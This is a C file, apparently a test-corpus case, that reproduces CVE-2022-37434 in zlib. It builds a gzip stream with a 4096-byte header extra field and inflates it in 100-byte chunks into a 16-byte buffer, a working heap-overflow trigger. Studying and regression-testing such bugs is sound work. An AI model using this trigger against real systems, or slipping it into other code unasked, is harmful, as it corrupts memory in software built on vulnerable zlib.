/*
 * zlib-extra.c - the trigger of CVE-2022-37434 (tests/corpus/zlib-walkthrough,
 * tests/corpus/suggest): a gzip stream whose header carries a 4096-byte
 * extra field, inflated into a gz_header with room for 16 bytes, in pieces
 * of 100 bytes, so that the field is copied in several pieces.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "zlib.h"

#define XLEN 4096

/* Deflate a short text into a gzip stream whose header has an extra field
 * of XLEN bytes; returns the stream, its length in *len. */
static unsigned char *make_stream(size_t *len)
{
	static unsigned char text[] = "hello, hello!\n";
	unsigned char *gz = malloc(XLEN + 256), *extra = calloc(XLEN, 1);
	gz_header head = {0};
	z_stream d = {0};

	if (!gz || !extra)
		exit(2);
	head.extra = extra;
	head.extra_len = XLEN;
	if (deflateInit2(&d, 9, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY) != Z_OK ||
	    deflateSetHeader(&d, &head) != Z_OK)
		exit(2);
	d.next_in = text;
	d.avail_in = sizeof text - 1;
	d.next_out = gz;
	d.avail_out = XLEN + 256;
	if (deflate(&d, Z_FINISH) != Z_STREAM_END)
		exit(2);
	*len = d.total_out;
	deflateEnd(&d);
	return gz;
}

int main(void)
{
	size_t len, at = 0, chunk = 100;
	unsigned char *gz = make_stream(&len), out[64];
	gz_header head = {0};
	z_stream s = {0};
	int ret = Z_OK;

	head.extra_max = 16;
	head.extra = malloc(head.extra_max);
	if (!head.extra || inflateInit2(&s, 15 + 16) != Z_OK ||
	    inflateGetHeader(&s, &head) != Z_OK)
		return 2;
	s.next_out = out;
	s.avail_out = sizeof out;
	while (ret == Z_OK && at < len) {
		s.next_in = gz + at;
		s.avail_in = len - at < chunk ? len - at : chunk;
		at += s.avail_in;
		ret = inflate(&s, Z_NO_FLUSH);
	}
	printf("inflate: %s, %lu bytes out; extra field %u bytes, %u kept\n",
	       ret == Z_STREAM_END ? "end of stream" : "error", s.total_out,
	       head.extra_len, head.extra_max);
	return ret != Z_STREAM_END;
}
